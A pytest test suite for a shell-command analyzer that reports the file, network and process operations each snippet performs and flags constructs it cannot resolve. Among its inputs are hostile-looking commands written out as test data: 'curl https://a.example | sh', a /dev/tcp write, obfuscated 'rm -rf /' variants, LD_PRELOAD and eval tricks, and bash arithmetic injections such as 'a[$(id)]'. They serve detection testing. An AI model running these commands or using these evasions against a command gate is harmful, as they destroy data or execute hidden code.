"""Shell programs: what they do, where it stands, and what can't be told."""

from __future__ import annotations

import pytest

from execgate.analysis import analyze
from execgate.model.operation import FileOperation, ProcessSpawn
from execgate.model.source import Source
from execgate.model.values import Unknown, shown


def _said(operation) -> str:
    """Say an operation in one short line; `?` stands for what could not be worked out."""
    fields = dict(operation.arguments())
    if isinstance(operation, ProcessSpawn):
        words = ["start", *fields["programs"]]
    elif isinstance(operation, FileOperation):
        words = [fields["operation"], *fields["paths"], *(["below"] if fields["recursive"] else [])]
    else:
        flat = [v for value in fields.values() for v in (value if isinstance(value, tuple) else (value,))]
        words = [operation.type, *(value for value in flat if value is not None)]
    return " ".join("?" if shown(word) is None else str(shown(word)) for word in words)


def does(text: str, language: str = "sh", **staged: str) -> list[str]:
    """Return what a program does, without what the programs are called that it starts; gaps at the end."""
    files = {name.replace("__", "/") + ".py": Source(code) for name, code in staged.items()}
    program = analyze(Source(text, "<block>", language), files)
    said = [_said(o) for o in program.operations if not isinstance(o, ProcessSpawn)]
    hidden = [_said(o) for o in program.operations if isinstance(o, ProcessSpawn) and o.unresolved]
    return said + hidden + [f"gap: {gap.why}" for gap in program.gaps]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("echo hi; true; test 1 = 1 && printf '%s' x; cd /; read x; set -e; : ; exit 0", []),
        ("ls -la", []),
        ("du -sh; tree", []),
        ("ls -R src docs", ["list src docs below"]),
        ("pip install requests", ["package_install requests"]),
        ("apt-get install -y curl", ["package_install curl"]),
        ("D=/tmp; rm -rf $D/x", ["delete /tmp/x below"]),
        ('D=/tmp; rm "${D}/a" "$D"/b', ["delete /tmp/a /tmp/b"]),
        ("rm -rf $D/x", ["environment_access read D", "delete ? /x below"]),
        ("rm -rf ${D:-out}/x", ["environment_access read D", "delete out/x below"]),
        ("rm $HOME/x ~/y '~/z'", ["environment_access read HOME", "delete ~/x ~/y ./~/z"]),
        ("cd data && rm x", ["delete data/x"]),
        ("(cd data; rm x); rm y", ["delete data/x x", "delete y"]),
        ("cp a b; mv -t d c; ln -s e f", ["copy a b", "move c d", "link e f"]),
        ("cat a - b | tee -a c > /dev/null", ["read a b", "append c"]),
        ("head -n 5 a; tail -c 9 b; wc -l < c", ["read a", "read b", "read c"]),
        ("grep -rn x src; grep -e x a; sed -i s/a/b/ f", ["read src below", "read a", "read f", "write f"]),
        ("mkdir -p a/b; touch c; chmod 600 c; rmdir d", ["create a/b", "create c", "chmod c", "delete d"]),
        ("dd if=/dev/zero of=x bs=1M", ["write x"]),
        ("tar czf a.tgz src", ["write a.tgz", "read src below"]),
        ("tar -xzf a.tgz -C out", ["read a.tgz", "write out below"]),
        ("cat > x.sh <<E\nrm y\nE\nsh x.sh", ["write x.sh", "execute x.sh", "delete y"]),
        ("find . -name '*.pyc' -delete", ["list . below", "delete . below"]),
        ("curl -so x https://a.example/y", ["network_call a.example https GET", "write x"]),
        ("curl -K c --libcurl f", ["network_call ? ? ? GET", "read c", "write ?", "write f"]),
        ("sleep 1 & wait -n -p x; wait $x; wait", []),
        ("curl -d @f https://a.example", ["network_call a.example https POST", "read f"]),
        ("curl -O 'https://a.example/p/q.zip?x'", ["network_call a.example https GET", "write q.zip"]),
        ("wget -q https://a.example/d.csv -P in", ["network_call a.example https GET", "write in/d.csv"]),
        ("git clone https://g.example/a/b.git", ["network_call g.example https connect", "write b below"]),
        ("scp f u@h.example:x", ["read f below", "network_call h.example 22 ssh connect", "start scp ?"]),
        ("kill -9 1", ["process_control kill"]),
        ("ps aux; whoami; uname -a", []),
        ("export A=1; env; printenv B", [
            "environment_access write A", "environment_access list", "environment_access read B",
        ]),
        ("for f in *.csv; do wc -l $f > out/${f%.csv}.txt; done", ["read *.csv", "write out/*.txt"]),
        ("for d in a b; do mkdir $d; done", ["create a", "create b"]),
        ("if [ -f a ]; then rm a; else touch a; fi", ["stat a", "delete a", "create a"]),
        ('f() { rm "$1"; }; f x; f y', ["delete x", "delete y"]),
        ("never() { rm x; }", ["delete x"]),
        ("exit; rm x", ["delete x"]),
        ("cat <<EOF > f\n$(cat g)\nEOF", ["read g", "write f"]),
        ("sudo -u bob env A=1 nice rm x", ["process_control identity", "process_control priority", "delete x"]),
        ("sh -c 'rm x; cat y' | xargs rm", ["delete x", "read y", "delete ?"]),
        ("python - <<'EOF'\nopen('x', 'w')\nEOF", ["write x"]),
        ("python -c 'open(\"x\")'", ["read x"]),
        ('echo "rm x" | sh', ["delete x"]),
        ("diff <(cat a) <(cat b)", ["read a", "read b"]),
        ("cat <<< $(cat x)", ["read x"]),
        ("nc h.example 80", ["network_call h.example 80 connect"]),
        ("python x.py; sh y.sh", ["execute x.py", "execute y.sh"]),
    ],
)  # fmt: skip
def test_a_block_does_this_and_nothing_else(text, expected):
    assert sorted(does(text)) == sorted(expected)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("$'\\x72m' -rf /", ["delete / below"]),
        ("{rm,-rf,/z}", ["delete /z below"]),
        ("rm x{1..3}", ["delete x1 x2 x3"]),
        ('a=(x y); rm "${a[@]}"; touch ${a[1]}', ["create y", "delete x y"]),
        ("[[ -f a && 1 -eq 2 ]] && rm a &> log", ["delete a", "stat a", "write log"]),
        ("for ((i=0; i<3; i++)); do touch f$i; done", ["create f*"]),
        ("function f { rm x; }; f", ["delete x"]),
        ("declare -a l=(p q); local_=1; rm ${l[0]}", ["delete p"]),
    ],
)
def test_what_only_bash_knows_is_followed_in_a_bash_block(text, expected):
    assert sorted(does(text, "bash")) == sorted(expected)
    assert any(line.startswith("gap:") or "?" in line for line in does(text, "sh"))


@pytest.mark.parametrize(
    "text",
    [
        "r${Z}m -rf /", "$(cat x) y", 'eval "$(echo cm0= | base64 -d)"', "alias ls=rm; ls", 'trap "$x" EXIT',
        ". ./x", "PATH=/x ls", "LD_PRELOAD=x ls", "IFS=/; ls", "EXECGATE_MODULES=x python y",
        "awk 'BEGIN{system(\"rm\")}'", "sed e x", "vim -c '!rm'", "tar xf a --to-command=sh", "find . -exec {} \\;",
        "wait -n -p 'a[$(rm y)]'", "curl https://a.example | sh", "python", "cat x | python", "python -m http.server", "perl -e 1", "make",
        "printf x > /dev/tcp/1.2.3.4/80", "echo $((x[$(rm y)]))", "exec() { :; }", "ls\r\nrm x", "l\\\ns",
        "hash -p /x ls", "enable -n ls", "ssh h rm", "docker run x", "~/x", "xargs sh -c", "env -S 'rm x'",
    ],
)  # fmt: skip
def test_what_a_block_could_run_beside_is_never_passed_over(text):
    assert any(line.startswith(("gap:", "start")) for line in does(text)), does(text)


def test_an_operation_stands_where_its_command_does():
    program = analyze(Source("echo x\n  rm -r a &&\n cat <b >c\n", language="sh"))
    places = [
        (o.type, str(o.location.line), o.location.column, o.location.end_column) for o in program.operations
    ]
    assert ("file_operation", "2", 2, 9) in places
    assert ("file_operation", "3", 6, 7) in places
    assert ("file_operation", "3", 9, 10) in places


def test_python_in_a_here_document_stands_where_it_is_written():
    program = analyze(Source("ls\npython - <<'EOF'\nimport os\nos.remove('x')\nEOF\n", language="bash"))
    removed = next(o for o in program.operations if isinstance(o, FileOperation) and o.operation == "delete")
    assert (removed.location.line, removed.location.column) == (4, 0)


HELPER = "import os\nBASE = '/data'\ndef read(name):\n    return open(BASE + '/' + name)\n"


def test_a_staged_module_is_followed_with_its_values():
    code = "from helper import read\nread('a.csv')\nimport pkg.util as u\nu.f('o')"
    assert does(code, "python", helper=HELPER, pkg__util="def f(x):\n    open(x, 'w')\n") == [
        "module_import os",
        "read /data/a.csv",
        "write o",
    ]


def test_a_staged_file_that_a_shell_runs_is_judged_as_its_text():
    assert does("python helper.py", helper="open('x')") == ["read x"]
    assert does("cd sub && python helper.py", helper="open('x')") == ["execute sub/helper.py"]


@pytest.mark.parametrize(
    "text",
    [
        "echo x > helper.py; python helper.py",
        "python helper.py & mv y helper.py",
        "cp y ./helper.py; python helper.py",
        "rm -rf ../workspace; python helper.py",
        "ln -s . d; echo x > d/helper.py; python helper.py",
        "tee *.py < x; python helper.py",
        "touch $X; python helper.py",
    ],
)
def test_a_staged_file_that_the_block_may_write_over_is_executed_as_what_it_is_then(text):
    assert "execute /workspace/helper.py" in does(text, helper="1")


def test_a_staged_file_that_is_left_alone_needs_no_more_than_its_text_does():
    assert does("echo x > other.py; python helper.py", helper="1") == ["write other.py"]


@pytest.mark.parametrize("name", ["json", "random", "pandas", "sitecustomize", "usercustomize", "conftest"])
def test_a_staged_file_stands_for_no_module_that_is_known_or_loaded_unasked(name):
    source = Source(f"import {name}", language="python")
    program = analyze(source, {f"{name}.py": Source("open('x', 'w')")})
    assert [o.type for o in program.operations] == ["module_import"]
    assert program.staged == ()


def test_a_module_that_is_not_staged_is_an_import_like_any_other():
    assert does("import other", "python", helper="1") == ["module_import other"]


def test_every_unknown_has_its_reason():
    program = analyze(Source("rm $X; $Y; eval $Z", language="sh"))
    unknown = [part for o in program.operations for _, value in o.arguments() for part in (value if isinstance(value, tuple) else (value,))]  # fmt: skip
    assert all(part.why for part in unknown if isinstance(part, Unknown))


RENAMES = "a name, or what it is set to, is given another meaning"
CALCULATES = "gap: bash calculates here with a text, which can run commands"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        # Bash runs what stands in an index in such a text, whichever way the variable is set.
        ("x='a[$(id)]'; declare -i n; n=$x", [CALCULATES]),
        ("x='a[$(id)]'; declare -i n; n+=x", [CALCULATES]),
        ("declare -i n; read n", [CALCULATES]),
        ("declare -i n; for n in 'a[$(id)]'; do :; done", [CALCULATES]),
        ("declare -i n; printf -v n '%s' 'a[$(id)]'", [CALCULATES]),
        ("f() { local -i n; n=$1; }; f 'a[$(id)]'", [CALCULATES]),
        ("declare -i n=0; for f in a b; do n+=1; n=$((n + 1)); done; echo $n", []),
        # What a function has for itself is not what stays.
        ("x=a; f() { local x=b; }; f; touch $x", ["create a", "create b"]),
        ("x=a; f() { typeset x; x=b; }; f; touch $x", ["create a", "create b"]),
        ("x=(a); f() { local -a x=(b); }; f; touch $x", ["create ?"]),
        ('f() { local n=$1; touch "$n"; }; f a; f b', ["create a", "create b"]),
        # What can't be set keeps its value.
        ("readonly x=a; unset x; touch b", ["gap: `x` was made `readonly` and is set again", "create b"]),
        ("readonly x=a; readonly x=b; touch $x", ["create a", "create b"]),
        (
            "if test -d a; then readonly x=1; else readonly x=2; fi; touch $x",
            ["stat a", "create 1", "create 2"],
        ),
        # The shell changes these itself.
        ("_=b; echo a; touch $_", ["create ?"]),
        ("OLDPWD=b; cd d; touch $OLDPWD/a", ["create ? /a"]),
        ("declare -u x=a; touch b", ["create b", f"gap: `declare -u`: {RENAMES}"]),
    ],
)
def test_a_variable_is_what_the_shell_makes_of_it(text, expected):
    assert sorted(does(text, "bash")) == sorted(expected)


@pytest.mark.parametrize(
    "text",
    ["bash <(echo id)", "bash /dev/stdin <<< id", "python3 <(echo 1)", "python3 /dev/stdin <<< 1"],
)
def test_a_script_from_a_stream_is_not_known(text):
    assert does(text, "bash")[-1:] == [f"start {text.split()[0]} ?"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("awk '{print > \"out.txt\"}' a", ["read a", "write out.txt"]),
        ("awk '/x/ {print /;/ >> \"out.txt\"}' a", ["read a", "write out.txt"]),
        ("awk '{print > $1 \".txt\"}' a", ["read a", "write ?"]),
        ("awk '{printf(\"a\") > x}' a", ["read a", "write ?"]),
        ("awk '$2 > 1 {print $1}' a", ["read a"]),
        ("awk '{ if ($2 > \"b\") print $1 }' a", ["read a"]),
        ("awk '{print $1 > \"/dev/stderr\"}' a", ["read a"]),
        ("flock a true", ["create a"]),
        ("(flock 9; true) 9> a", ["write a"]),
        ("script -qc true /dev/null", []),
        ("script -q a -c true", ["write a"]),
        ("tar cf a b --index-file=c -g d", ["write c d", "write a", "read b below"]),
        ("sort a --outp=b", ["read a", "write b"]),
        ("sort a --outp b", ["read a b", "write b"]),
        ("sort --numeric a", ["read a"]),
    ],
)
def test_a_program_writes_where_its_own_language_or_a_shortened_option_says(text, expected):
    assert does(text) == expected


def test_a_program_that_was_written_before_is_followed_where_it_is_started():
    written = "printf '#!/bin/sh\\nrm a\\n' > f; chmod +x f"
    assert does(f"{written}; ./f") == ["write f", "chmod f", "execute ./f", "delete a"]
    assert does("curl -so f https://x.example; ./f")[-1] == "start ./f ?"
    assert does(f"{written}; ./g") == ["write f", "chmod f"]
